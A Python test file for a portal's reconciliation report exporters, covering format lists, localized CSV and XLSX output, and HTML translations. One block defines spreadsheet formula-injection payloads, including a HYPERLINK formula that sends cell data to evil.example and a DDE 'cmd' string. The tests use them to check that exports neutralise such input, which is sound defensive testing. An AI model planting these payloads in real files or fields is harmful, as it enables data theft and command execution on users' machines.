"""The one table of report formats, read by the CLI and the report API."""

from __future__ import annotations

import csv
import io
import json
from datetime import time

import pytest

from portal.api.reports import API_FORMATS
from portal.cli.reconcile import reconcile_command
from portal.reconcile.engine import CenterInput, Result, reconcile
from portal.reconcile.lessons import ScheduleEntry
from portal.reconcile.model import Confirmation, Member, ReconcileSettings
from portal.reconcile.report import CSV_COLUMNS, FORMATS, RENDERERS, ReportOptions, render
from portal.reconcile.rules import STATUSES
from portal.web import i18n

from .support import DAY, START, ZONE, Log, confirm, run


def test_the_cli_offers_every_format_and_the_api_all_but_the_terminal_table() -> None:
    [fmt] = [p for p in reconcile_command.params if p.name == "fmt"]
    assert tuple(fmt.type.choices) == FORMATS == tuple(RENDERERS)  # type: ignore[attr-defined]
    assert API_FORMATS == ("json", "csv", "xlsx", "html")
    assert set(API_FORMATS) == set(RENDERERS) - {"table"}


def test_every_renderer_gives_bytes_and_unknown_formats_are_refused() -> None:
    log = Log()
    log.boot_record(START - 3600_000)
    log.badge(START, "04A1B2C3")
    result = run([log.log], [confirm()])
    for name, renderer in RENDERERS.items():
        data = render(result, ZONE, name)
        assert data and renderer.extension and renderer.media_type, name
    assert json.loads(render(result, ZONE, "json"))["rows"][0]["status"] == "suspect"
    assert b"<table" in render(result, ZONE, "html")
    with pytest.raises(ValueError, match="is not one of table, csv, json, xlsx, html"):
        render(result, ZONE, "pdf")


HOSTILE = {
    "child": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "group": "@SUM(A1:A9)",
    "center": "+1+cmd|' /C calc'!A0",
    "other": "-2+3",
    "tab": "\t=1+1",
}


def _hostile_result() -> Result:
    h = HOSTILE
    schedule = [ScheduleEntry(h["group"], h["center"], 1, time(15, 0), time(16, 30), -250)]
    members = [
        Member(h["child"], h["group"], h["center"], frozenset({"04A1B2C3"})),
        Member(h["other"], h["group"], h["center"], frozenset({"04A1B2C4"})),
        Member(h["tab"], h["group"], h["center"], frozenset({"04A1B2C5"})),
    ]
    confs = [
        Confirmation(c, h["group"], DAY, "=1+2", "-signer")
        for c in (h["child"], h["other"], h["tab"])
    ]
    return reconcile(
        DAY,
        DAY,
        schedule=schedule,
        members=members,
        confirmations=confs,
        load_center=lambda c: CenterInput(c, [], []),
        settings=ReconcileSettings(),
        zone=ZONE,
    )


def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote() -> None:
    result = _hostile_result()
    assert result.rows
    lines = list(csv.reader(io.StringIO(render(result, ZONE, "csv").decode())))
    assert tuple(lines[0]) == CSV_COLUMNS
    price = CSV_COLUMNS.index("price_kzt")
    for line in lines[1:]:
        assert line[price] == "-250"  # a true negative number stays a number
        for cell in line[:price] + line[price + 1 :]:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, line)
    cells = {c for line in lines[1:] for c in line}
    assert "'" + HOSTILE["child"] in cells and "'" + HOSTILE["center"] in cells
    assert "'" + HOSTILE["group"] in cells and "'" + HOSTILE["tab"] in cells


def test_xlsx_stores_hostile_names_as_text_not_formulas() -> None:
    from openpyxl import load_workbook

    result = _hostile_result()
    book = load_workbook(io.BytesIO(render(result, ZONE, "xlsx")))
    seen: set[object] = set()
    for sheet in book.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                seen.add(cell.value)
    assert {HOSTILE["child"], HOSTILE["group"], HOSTILE["center"], HOSTILE["other"]} <= seen
    assert -250 in seen  # numbers stay numbers


def test_a_name_like_minus_ali_is_quoted_in_csv_and_plain_text_in_xlsx() -> None:
    from openpyxl import load_workbook

    schedule = [ScheduleEntry("G1", "C1", 1, time(15, 0), time(16, 30), -250)]
    members = [Member("-Ali", "G1", "C1", frozenset({"04A1B2C3"}), "-Ali Nur")]
    result = reconcile(
        DAY,
        DAY,
        schedule=schedule,
        members=members,
        confirmations=[Confirmation("-Ali", "G1", DAY, "", "-5")],
        load_center=lambda c: CenterInput(c, [], []),
        settings=ReconcileSettings(),
        zone=ZONE,
    )
    result.child_names = {"-Ali": "-Ali Nur"}
    [line] = list(csv.DictReader(io.StringIO(render(result, ZONE, "csv").decode())))
    # Excel reads -Ali as a formula (#NAME?): quoted. A plain number is a number.
    assert line["child_id"] == "'-Ali" and line["child_name"] == "'-Ali Nur"
    assert line["price_kzt"] == "-250" and line["signer"] == "-5"
    sheet = load_workbook(io.BytesIO(render(result, ZONE, "xlsx", RU))).worksheets[0]
    assert sheet["A2"].value == "-Ali" and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == "-Ali Nur"
    assert sheet["I2"].value == -250 and sheet["I2"].data_type == "n"


RU = ReportOptions("ru", i18n.translator("ru"))
EN = ReportOptions("en", i18n.translator("en"))


def _named_result() -> Result:
    log = Log()
    log.boot_record(START - 3600_000)
    log.door(START - 10_000, "open")
    log.badge(START, "04A1B2C3")
    result = run([log.log], [confirm(), confirm("K2")])
    result.child_names = {"K1": "Айдана Ахметова", "K2": "Нурлан Ким"}
    result.center_names = {"C1": "Шахматный клуб «Алатау»"}
    return result


def test_russian_csv_is_semicolons_with_a_bom_and_parses_as_excel_would() -> None:
    result = _named_result()
    data = render(result, ZONE, "csv", RU)
    assert data.startswith("\ufeff".encode())  # Excel takes the file as UTF-8
    # What Excel in a Russian locale does: ; between cells, the BOM not part of a header.
    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert tuple(lines[0]) == CSV_COLUMNS
    by_child = {line[0]: dict(zip(CSV_COLUMNS, line, strict=True)) for line in lines[1:]}
    assert by_child["K1"]["child_name"] == "Айдана Ахметова"
    assert by_child["K2"]["center_name"] == "Шахматный клуб «Алатау»"
    assert by_child["K1"]["price_kzt"] == "3000"
    # The option for ',' (and no BOM): the portal's CSV for scripts.
    comma = render(result, ZONE, "csv", ReportOptions("ru", {}, "comma"))
    assert not comma.startswith("\ufeff".encode())
    assert tuple(next(csv.reader(io.StringIO(comma.decode())))) == CSV_COLUMNS
    # English is the comma convention unless told otherwise.
    assert render(result, ZONE, "csv", EN) == comma
    semi = render(result, ZONE, "csv", ReportOptions("en", {}, "semicolon"))
    assert semi == data


def test_xlsx_has_real_cells_formats_headers_in_the_language_and_names() -> None:
    from datetime import datetime

    from openpyxl import load_workbook

    result = _named_result()
    book = load_workbook(io.BytesIO(render(result, ZONE, "xlsx", RU)))
    t = i18n.translator("ru")
    assert book.sheetnames == [t["all_rows"], t["centers"], t["groups"]]
    rows = book[t["all_rows"]]
    header = [c.value for c in rows[1]]
    assert header[:5] == [t["child_id"], t["child_name"], t["group"], t["center_id"], t["center"]]
    assert header[9] == f"{t['lesson_start']} (Asia/Almaty)"
    assert rows.freeze_panes == "A2"
    assert rows.auto_filter.ref == f"A1:O{rows.max_row}"
    assert all(rows.column_dimensions[c].width >= 8 for c in "ABCDEFGHIJKLMNO")
    assert rows.column_dimensions["B"].width >= len("Айдана Ахметова")
    cells = {rows.cell(r, 1).value: [c for c in rows[r]] for r in range(2, rows.max_row + 1)}
    k1 = cells["K1"]
    assert k1[1].value == "Айдана Ахметова" and k1[4].value == "Шахматный клуб «Алатау»"
    assert isinstance(k1[5].value, datetime) and k1[5].value.date() == DAY  # a date cell
    assert k1[5].number_format == "yyyy-mm-dd" and k1[5].is_date
    statuses = {r.child_id: r.status for r in result.rows}
    assert k1[6].value == t[statuses["K1"]] and cells["K2"][6].value == t[statuses["K2"]]
    assert k1[8].value == 3000 and k1[8].data_type == "n" and k1[8].number_format == "#,##0"
    start = k1[9].value
    assert isinstance(start, datetime) and (start.hour, start.minute) == (15, 0)  # local
    assert k1[9].number_format == "yyyy-mm-dd hh:mm"
    assert k1[11].value == 1 and k1[11].data_type == "n"
    centers = book[t["centers"]]
    assert [c.value for c in centers[1]][:2] == [t["center_id"], t["center"]]
    line = [c for c in centers[2]]
    assert line[0].value == "C1" and line[1].value == "Шахматный клуб «Алатау»"
    share = line[2 + len(STATUSES)]
    assert isinstance(share.value, float) and 0 <= share.value <= 1
    assert share.number_format == "0.0%"
    assert line[3 + len(STATUSES)].number_format == "#,##0"
    assert centers.freeze_panes == "A2" and centers.auto_filter.ref


def test_html_report_is_in_the_language_with_statuses_in_words() -> None:
    result = _named_result()
    ru = render(result, ZONE, "html", RU).decode()
    t = i18n.translator("ru")
    assert '<html lang="ru">' in ru
    assert t["rows_not_verified"] in ru and t["kzt_at_risk"] in ru
    not_verified = [r for r in result.rows if r.status != "verified"]
    assert not_verified
    for r in not_verified:
        assert f"<td>{t[r.status]}</td>" in ru
        assert f"<td>{r.status}</td>" not in ru
    assert "Нурлан Ким" in ru and "Шахматный клуб «Алатау»" in ru
    en = render(result, ZONE, "html", EN).decode()
    assert '<html lang="en">' in en and "Lessons not verified" in en


def test_every_word_the_exports_use_exists_in_every_language() -> None:
    """A missing key would show as snake_case in a Russian or Kazakh workbook."""
    result = _named_result()
    for lang in i18n.LANGS:
        words = i18n.translator(lang)
        asked: list[str] = []
        recording = ReportOptions(lang, _Recorder(words, asked))
        render(result, ZONE, "xlsx", recording)
        render(result, ZONE, "html", recording)
        assert {"child_id", "lesson_start", "rows_not_verified", *STATUSES} <= set(asked)
        missing = sorted({k for k in asked if k not in words})
        assert not missing, (lang, missing)


class _Recorder(dict[str, str]):
    """The words, noting every key a renderer asks for."""

    def __init__(self, words: dict[str, str], asked: list[str]) -> None:
        super().__init__(words)
        self.asked = asked

    def get(self, key: str, default: object = None) -> object:  # type: ignore[override]
        self.asked.append(key)
        return super().get(key, default)
